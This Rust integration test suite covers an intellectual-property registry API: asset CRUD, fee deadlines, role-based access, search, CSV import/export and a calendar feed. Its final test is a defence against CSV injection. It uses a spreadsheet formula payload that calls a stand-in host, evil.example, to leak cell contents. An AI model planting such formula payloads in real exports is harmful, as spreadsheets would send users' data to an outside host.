//! The IP registry over HTTP.

use actix_web::http::StatusCode;
use serde_json::{Value, json};

use crate::helpers::*;

fn us_patent(title: &str) -> Value {
    json!({
        "kind": "patent", "title": title, "jurisdiction": "US", "status": "granted",
        "application_number": "16/123,456", "grant_number": "US 11,234,567 B2",
        "filing_date": "2017-08-01", "grant_date": "2020-03-10",
        "abstract": "A method for adaptive gradient clipping in federated training.",
        "inventors": ["Ada Lovelace"], "claims_count": 20, "tags": ["ml"], "internal_notes": "licensing target: Borealis"
    })
}

async fn create(app: &TestApp, token: &str, body: &Value) -> Res<Reply> {
    app.send_json(app.post("/api/v1/assets").bearer_auth(token), body).await
}

#[actix_web::test]
async fn create_read_update_delete_with_deadlines_that_follow_the_facts() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    let r = create(&app, &m, &us_patent("Gradient clipping")).await?;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let id = r.json()["id"].as_str().ok_or("no id")?.to_owned();
    assert_eq!(r.json()["grant_number"], "US11234567B2");
    assert_eq!(r.json()["expiry_date"], "2037-08-01");

    let got = app.get_as(&m, &format!("/api/v1/assets/{id}")).await?.json();
    let dues: Vec<&str> = got["deadlines"].as_array().map(|a| a.iter().filter_map(|d| d["due"].as_str()).collect()).unwrap_or_default();
    assert_eq!(dues, vec!["2023-09-10", "2027-09-10", "2031-09-10"]);

    // Moving the grant date moves the maintenance fees; abandoning cancels them.
    let moved = app.send_json(app.patch(&format!("/api/v1/assets/{id}")).bearer_auth(&m), &json!({ "grant_date": "2021-01-05" })).await?;
    assert_eq!(moved.status, StatusCode::OK, "{}", moved.body);
    let got = app.get_as(&m, &format!("/api/v1/assets/{id}")).await?.json();
    assert_eq!(got["deadlines"][0]["due"], "2024-07-05");
    assert_eq!(got["title"], "Gradient clipping", "untouched fields survive a partial update");
    app.send_json(app.patch(&format!("/api/v1/assets/{id}")).bearer_auth(&m), &json!({ "status": "abandoned" })).await?;
    let got = app.get_as(&m, &format!("/api/v1/assets/{id}")).await?.json();
    assert_eq!(got["deadlines"], json!([]));

    let bad = app.send_json(app.patch(&format!("/api/v1/assets/{id}")).bearer_auth(&m), &json!({ "kind": "trademark" })).await?;
    assert_eq!((bad.status, bad.json()["error"]["field"].clone()), (StatusCode::UNPROCESSABLE_ENTITY, json!("kind")));
    let del = app.send(app.request(actix_web::http::Method::DELETE, &format!("/api/v1/assets/{id}")).bearer_auth(&m)).await?;
    assert_eq!(del.status, StatusCode::NO_CONTENT);
    assert_eq!(app.get_as(&m, &format!("/api/v1/assets/{id}")).await?.status, StatusCode::NOT_FOUND);
    let actions: Vec<String> = sqlx::query_scalar("SELECT action FROM audit_log WHERE target_id = $1 ORDER BY seq").bind(&id).fetch_all(&app.t.db.pool).await?;
    for a in ["asset.created", "asset.updated", "asset.deleted"] {
        assert!(actions.iter().any(|x| x == a), "{a} not audited: {actions:?}");
    }
    Ok(())
}

#[actix_web::test]
async fn bad_values_are_422_naming_the_field_and_nothing_is_written() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    let tm = json!({ "kind": "trademark", "title": "AURORA", "jurisdiction": "EM", "mark_text": "AURORA", "nice_classes": [9] });
    let mut cases = Vec::new();
    let mut p = us_patent("x");
    p["application_number"] = json!("16-123");
    cases.push((p, "application_number"));
    let mut p = us_patent("x");
    p["grant_date"] = json!("2016-01-01");
    cases.push((p, "grant_date"));
    let mut p = us_patent("x");
    p["priority_date"] = json!("2018-01-01");
    cases.push((p, "priority_date"));
    let mut p = us_patent("x");
    p["jurisdiction"] = json!("UK");
    cases.push((p, "jurisdiction"));
    let mut t = tm.clone();
    t["nice_classes"] = json!([0]);
    cases.push((t, "nice_classes"));
    let mut t = tm.clone();
    t["nice_classes"] = json!([46]);
    cases.push((t, "nice_classes"));
    let mut p = us_patent("x");
    p["organisation_id"] = json!(app.licensee_a.to_string());
    cases.push((p, "body"));
    for (body, field) in cases {
        let r = create(&app, &m, &body).await?;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{body}: {}", r.body);
        assert_eq!(r.json()["error"]["field"], json!(field), "{body}");
    }
    assert_eq!(app.count("SELECT count(*) FROM ip_assets").await?, 0);
    assert_eq!(create(&app, &m, &tm).await?.status, StatusCode::CREATED);
    Ok(())
}

#[actix_web::test]
async fn filters_full_text_search_and_keyset_pagination() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    for i in 0..7 {
        create(&app, &m, &us_patent(&format!("Federated learning method {i}"))).await?;
    }
    create(
        &app,
        &m,
        &json!({ "kind": "trademark", "title": "AURORA word mark", "jurisdiction": "EM", "mark_text": "AURORA", "nice_classes": [9, 42], "tags": ["brand"] }),
    )
    .await?;
    create(&app, &m, &json!({ "kind": "copyright", "title": "Licentia SDK", "work_type": "software", "authors": ["Aurora Innovations"] })).await?;

    let q = |path: &str| {
        let (m, path) = (m.clone(), path.to_owned());
        let app = &app;
        async move { app.get_as(&m, &path).await.map(|r| r.json()) }
    };
    let count = |v: &Value| v["items"].as_array().map(Vec::len).unwrap_or(0);
    assert_eq!(count(&q("/api/v1/assets?kind=trademark").await?), 1);
    assert_eq!(count(&q("/api/v1/assets?jurisdiction=us").await?), 7);
    assert_eq!(count(&q("/api/v1/assets?tag=brand").await?), 1);
    assert_eq!(count(&q("/api/v1/assets?q=aurora").await?), 1, "mark text is searched");
    assert_eq!(count(&q("/api/v1/assets?q=clipping").await?), 7, "abstracts are searched (stemmed)");
    assert_eq!(count(&q("/api/v1/assets?q=US11234567B2").await?), 7, "numbers are searched");
    assert_eq!(count(&q("/api/v1/assets?expiring_before=2038-01-01").await?), 7);

    let mut seen = std::collections::HashSet::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/api/v1/assets?limit=4&cursor={c}"),
            None => "/api/v1/assets?limit=4".to_owned(),
        };
        let page = q(&path).await?;
        for item in page["items"].as_array().cloned().unwrap_or_default() {
            assert!(seen.insert(item["id"].as_str().unwrap_or_default().to_owned()), "an asset appeared twice");
        }
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => break,
        }
    }
    assert_eq!(seen.len(), 9);
    let bad = app.get_as(&m, "/api/v1/assets?cursor=not-a-cursor").await?;
    assert_eq!((bad.status, bad.json()["error"]["field"].clone()), (StatusCode::UNPROCESSABLE_ENTITY, json!("cursor")));
    let bad = app.get_as(&m, "/api/v1/assets?kind=poem").await?;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);

    // The htmx list page answers the same filters.
    let s = app.browser_login("manager").await?;
    let page = app.send(app.get("/assets?kind=trademark").insert_header(("cookie", s.cookie.clone()))).await?;
    assert!(page.body.contains("AURORA word mark") && !page.body.contains("Federated learning method"));
    assert!(page.body.contains("hx-get=\"/assets\"") && page.body.contains("id=\"asset-rows\""));
    Ok(())
}

#[actix_web::test]
async fn licensees_see_no_asset_without_an_agreement_on_any_route() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    let id = create(&app, &m, &us_patent("Secret sauce")).await?.json()["id"].as_str().ok_or("no id")?.to_owned();
    let l = app.token("licensee").await?;
    assert_eq!(app.get_as(&l, "/api/v1/assets").await?.json()["items"], json!([]));
    assert_eq!(app.get_as(&l, "/api/v1/assets?q=sauce").await?.json()["items"], json!([]));
    assert_eq!(app.get_as(&l, &format!("/api/v1/assets/{id}")).await?.status, StatusCode::NOT_FOUND);
    assert_eq!(app.get_as(&l, "/api/v1/deadlines?days=3660").await?.json()["items"], json!([]));
    let s = app.browser_login("licensee").await?;
    let page = app.send(app.get(&format!("/assets/{id}")).insert_header(("cookie", s.cookie.clone()))).await?;
    assert_eq!(page.status, StatusCode::NOT_FOUND);
    let list = app.send(app.get("/assets").insert_header(("cookie", s.cookie.clone()))).await?;
    assert!(!list.body.contains("Secret sauce"));
    // Licensees cannot write either.
    assert_eq!(create(&app, &l, &us_patent("mine")).await?.status, StatusCode::FORBIDDEN);
    // And the auditor reads everything but changes nothing.
    let a = app.token("auditor").await?;
    assert_eq!(app.get_as(&a, &format!("/api/v1/assets/{id}")).await?.json()["internal_notes"], "licensing target: Borealis");
    assert_eq!(app.send_json(app.patch(&format!("/api/v1/assets/{id}")).bearer_auth(&a), &json!({ "title": "x" })).await?.status, StatusCode::FORBIDDEN);
    Ok(())
}

#[actix_web::test]
async fn upcoming_deadlines_cover_the_window_and_the_page_lists_them() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    // An EP application filed so that its 3rd-year renewal fee falls due within the next 90 days.
    let filing = (chrono::Utc::now().date_naive() - chrono::Months::new(24) + chrono::Days::new(20)).format("%Y-%m-%d").to_string();
    let r = create(&app, &m, &json!({ "kind": "patent", "title": "EP pending", "jurisdiction": "EP", "filing_date": filing })).await?;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let up = app.get_as(&m, "/api/v1/deadlines").await?.json();
    let titles: Vec<&str> = up["items"].as_array().map(|a| a.iter().filter_map(|d| d["title"].as_str()).collect()).unwrap_or_default();
    assert_eq!(titles, vec!["Renewal fee, year 3"], "{up}");
    let s = app.browser_login("manager").await?;
    let page = app.send(app.get("/deadlines").insert_header(("cookie", s.cookie.clone()))).await?;
    assert!(page.body.contains("Renewal fee, year 3") && page.body.contains("EP pending"));
    Ok(())
}

/// A registry CSV of `n` rows; the rows at `bad` (0-based) carry one defect each.
fn registry_csv(n: usize, bad: &[(usize, &str)]) -> String {
    let mut out = String::from("kind,status,title,jurisdiction,application_number,filing_date,grant_date,tags,nice_classes,mark_text,abstract\n");
    for i in 0..n {
        let defect = bad.iter().find(|(at, _)| *at == i).map(|(_, d)| *d);
        let line = match (i % 3, defect) {
            (_, Some("number")) => format!("patent,filed,Bad number {i},EP,EP12,2021-03-0{},,ml,,,\n", 1 + i % 9),
            (_, Some("class")) => format!("trademark,filed,Mark {i},EM,,2021-03-01,,brand,46,MARK{i},\n"),
            (_, Some("dates")) => format!("patent,granted,Early grant {i},US,16/123456,2021-03-01,2020-01-01,ml,,,\n"),
            (0, _) => format!("patent,filed,\"Method, system {i}\",EP,EP2{:07}.{},2021-03-01,,ml;ep,,,\"Abstract {i}\"\n", i, i % 10),
            (1, _) => format!("trademark,filed,Mark {i},EM,,2021-03-01,,brand,9;42,MARK{i},\n"),
            _ => format!("patent,granted,US patent {i},US,16/{:06},2017-08-01,2020-03-10,ml,,,\n", i),
        };
        out.push_str(&line);
    }
    out
}

async fn import(app: &TestApp, token: &str, csv: &str, dry_run: bool) -> Res<Reply> {
    let path = if dry_run { "/api/v1/assets/import?dry_run=true" } else { "/api/v1/assets/import" };
    app.send_body(app.post(path).bearer_auth(token).insert_header(("content-type", "text/csv")), csv.to_owned()).await
}

#[actix_web::test]
async fn a_10000_row_import_names_exactly_the_bad_rows_and_is_all_or_nothing() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    let bad_csv = registry_csv(10_000, &[(17, "number"), (4_321, "class"), (9_998, "dates")]);
    let preview = import(&app, &m, &bad_csv, true).await?;
    assert_eq!(preview.status, StatusCode::OK, "{}", &preview.body[..preview.body.len().min(500)]);
    let report = preview.json();
    assert_eq!((report["rows"].as_u64(), report["valid"].as_u64()), (Some(10_000), Some(9_997)));
    let errors: Vec<(u64, String)> = report["errors"]
        .as_array()
        .map(|a| a.iter().map(|e| (e["line"].as_u64().unwrap_or(0), e["field"].as_str().unwrap_or("").to_owned())).collect())
        .unwrap_or_default();
    // Line numbers count the header as line 1.
    assert_eq!(errors, vec![(19, "application_number".to_owned()), (4_323, "nice_classes".to_owned()), (10_000, "grant_date".to_owned())]);
    assert_eq!(app.count("SELECT count(*) FROM ip_assets").await?, 0, "a dry run writes nothing");
    let refused = import(&app, &m, &bad_csv, false).await?;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(app.count("SELECT count(*) FROM ip_assets").await?, 0, "all or nothing");

    let good_csv = registry_csv(10_000, &[]);
    let done = import(&app, &m, &good_csv, false).await?;
    assert_eq!(done.status, StatusCode::CREATED, "{}", &done.body[..done.body.len().min(500)]);
    assert_eq!(app.count("SELECT count(*) FROM ip_assets").await?, 10_000);
    assert_eq!(app.count("SELECT count(*) FROM audit_log WHERE action = 'asset.imported'").await?, 1);

    // Export, import the export into an empty registry, export again: identical.
    let first = app.get_as(&m, "/api/v1/assets/export?format=csv").await?;
    assert_eq!(first.status, StatusCode::OK);
    let other = spawn_app().await?;
    let m2 = other.token("manager").await?;
    assert_eq!(import(&other, &m2, &first.body, false).await?.status, StatusCode::CREATED);
    let second = other.get_as(&m2, "/api/v1/assets/export?format=csv").await?;
    let sorted = |s: &str| {
        let mut v: Vec<String> = s.lines().map(str::to_owned).collect();
        v.sort();
        v
    };
    assert_eq!(sorted(&first.body), sorted(&second.body));
    assert_eq!(first.body.lines().count(), 10_001);
    Ok(())
}

#[actix_web::test]
async fn hostile_csv_is_refused_cleanly() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    for (csv, needle) in [("kind,title,evil_column\npatent,x,1\n", "unknown column"), ("title\nx\n", "kind and title"), ("", "kind and title")] {
        let r = import(&app, &m, csv, true).await?;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{csv:?}: {}", r.body);
        assert!(r.body.contains(needle), "{csv:?}: {}", r.body);
    }
    let ragged = import(&app, &m, "kind,title\npatent,x,extra\n", true).await?.json();
    assert_eq!(ragged["errors"][0]["line"], 2);
    let wrong_type = app.send_body(app.post("/api/v1/assets/import").bearer_auth(&m).insert_header(("content-type", "application/json")), "{}").await?;
    assert_eq!(wrong_type.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let l = app.token("licensee").await?;
    assert_eq!(import(&app, &l, "kind,title\n", true).await?.status, StatusCode::FORBIDDEN);
    assert_eq!(app.get_as(&l, "/api/v1/assets/export").await?.body.lines().count(), 1, "a licensee's export has the header only");
    Ok(())
}

#[actix_web::test]
async fn deadlines_can_be_marked_and_feed_a_private_calendar() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    let filing = (chrono::Utc::now().date_naive() - chrono::Months::new(24) + chrono::Days::new(20)).format("%Y-%m-%d").to_string();
    let id =
        create(&app, &m, &json!({ "kind": "patent", "title": "EP; pending, \"quoted\"", "jurisdiction": "EP", "filing_date": filing })).await?.json()["id"]
            .as_str()
            .ok_or("no id")?
            .to_owned();

    // The feed: a token shown once; the feed carries the upcoming renewal.
    let t = app.send(app.post("/api/v1/me/calendar-token").bearer_auth(&m)).await?;
    assert_eq!(t.status, StatusCode::CREATED);
    let token = t.json()["token"].as_str().ok_or("no token")?.to_owned();
    let ics = app.send(app.get(&format!("/deadlines.ics?token={token}"))).await?;
    assert_eq!(ics.status, StatusCode::OK);
    assert!(ics.header("content-type").unwrap_or_default().starts_with("text/calendar"));
    assert!(ics.body.starts_with("BEGIN:VCALENDAR\r\n") && ics.body.ends_with("END:VCALENDAR\r\n"));
    // The feed looks 400 days ahead (year 4 may or may not fall inside, depending on today).
    let events_before = ics.body.matches("BEGIN:VEVENT").count();
    assert!(events_before >= 1);
    assert!(ics.body.contains("SUMMARY:Renewal fee\\, year 3 — EP\\; pending\\, \"quoted\""), "{}", ics.body);
    assert_eq!(app.send(app.get("/deadlines.ics?token=wrong")).await?.status, StatusCode::NOT_FOUND);
    assert_eq!(app.send(app.get("/deadlines.ics")).await?.status, StatusCode::NOT_FOUND);

    // Marking it done takes it off the upcoming list and the feed; a rule the asset lacks is a 422.
    let bad = app
        .send_json(app.post(&format!("/api/v1/assets/{id}/deadlines")).bearer_auth(&m), &json!({ "rule": "us-maintenance", "ordinal": 1, "state": "done" }))
        .await?;
    assert_eq!((bad.status, bad.json()["error"]["field"].clone()), (StatusCode::UNPROCESSABLE_ENTITY, json!("rule")));
    let bad = app
        .send_json(app.post(&format!("/api/v1/assets/{id}/deadlines")).bearer_auth(&m), &json!({ "rule": "ep-renewal", "ordinal": 3, "state": "paid?" }))
        .await?;
    assert_eq!(bad.json()["error"]["field"], json!("state"));
    let ok = app
        .send_json(
            app.post(&format!("/api/v1/assets/{id}/deadlines")).bearer_auth(&m),
            &json!({ "rule": "ep-renewal", "ordinal": 3, "state": "done", "note": "paid 2 May" }),
        )
        .await?;
    assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
    assert_eq!(ok.json()["deadlines"][0]["state"], "done");
    assert_eq!(app.get_as(&m, "/api/v1/deadlines").await?.json()["items"], json!([]));
    let ics = app.send(app.get(&format!("/deadlines.ics?token={token}"))).await?;
    assert_eq!(ics.body.matches("BEGIN:VEVENT").count(), events_before - 1);
    assert!(!ics.body.contains("year 3"));
    assert_eq!(app.count("SELECT count(*) FROM audit_log WHERE action = 'deadline.marked'").await?, 1);

    // A new token retires the old feed URL; licensees cannot mark.
    let t2 = app.send(app.post("/api/v1/me/calendar-token").bearer_auth(&m)).await?.json()["token"].as_str().unwrap_or_default().to_owned();
    assert_ne!(t2, token);
    assert_eq!(app.send(app.get(&format!("/deadlines.ics?token={token}"))).await?.status, StatusCode::NOT_FOUND);
    let l = app.token("licensee").await?;
    let denied = app
        .send_json(app.post(&format!("/api/v1/assets/{id}/deadlines")).bearer_auth(&l), &json!({ "rule": "ep-renewal", "ordinal": 4, "state": "done" }))
        .await?;
    assert_eq!(denied.status, StatusCode::FORBIDDEN);
    Ok(())
}

/// OWASP CSV injection: a title or tag that a spreadsheet would run as a formula leaves the export
/// as text; the import of that export gives the same registry back.
#[actix_web::test]
async fn the_export_defuses_formula_cells() -> TestResult {
    let app = spawn_app().await?;
    let m = app.token("manager").await?;
    let mut body = us_patent("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    body["tags"] = json!(["@SUM(1+1)", "+cmd"]);
    let r = create(&app, &m, &body).await?;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let export = app.get_as(&m, "/api/v1/assets/export?format=csv").await?;
    assert_eq!(export.status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(export.body.as_bytes());
    let headers = reader.headers()?.clone();
    let title_at = headers.iter().position(|h| h == "title").ok_or("no title column")?;
    let tags_at = headers.iter().position(|h| h == "tags").ok_or("no tags column")?;
    let row = reader.records().next().ok_or("no row")??;
    assert_eq!(&row[title_at], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    assert_eq!(&row[tags_at], "'@SUM(1+1);+cmd");
    for cell in row.iter() {
        assert!(!cell.starts_with(['=', '+', '@']), "formula-leading cell in the export: {cell}");
    }
    Ok(())
}
